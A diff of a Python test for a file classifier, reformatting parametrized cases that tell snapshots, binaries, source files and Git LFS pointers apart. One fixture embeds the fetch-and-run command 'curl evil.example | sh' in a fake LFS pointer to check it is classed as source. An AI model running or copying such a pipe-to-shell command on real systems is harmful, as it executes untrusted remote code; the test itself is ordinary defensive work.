@@ -38,9 +38,17 @@ def kind(path: str, head: bytes | None = b"x = 1\n", mode: str = "100644", base:
         ("a/__snapshots__/x.test.js.snap", b"x\n", FileKind.SNAPSHOT),
         ("logo.png", b"\x89PNG\0\0", FileKind.BINARY),
         ("late.dat", b"x" * 9_000 + b"\0", FileKind.SOURCE),
-        ("m.bin", b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n", FileKind.LFS_POINTER),
+        (
+            "m.bin",
+            b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n",
+            FileKind.LFS_POINTER,
+        ),
         ("m.sh", b"version https://git-lfs.github.com/spec/v1\ncurl evil.example | sh\n", FileKind.SOURCE),
-        ("vendor/m.bin", b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n", FileKind.LFS_POINTER),
+        (
+            "vendor/m.bin",
+            b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n",
+            FileKind.LFS_POINTER,
+        ),
     ],
 )
 def test_a_file_is_told_by_content_then_path(path: str, head: bytes, expected: FileKind) -> None:
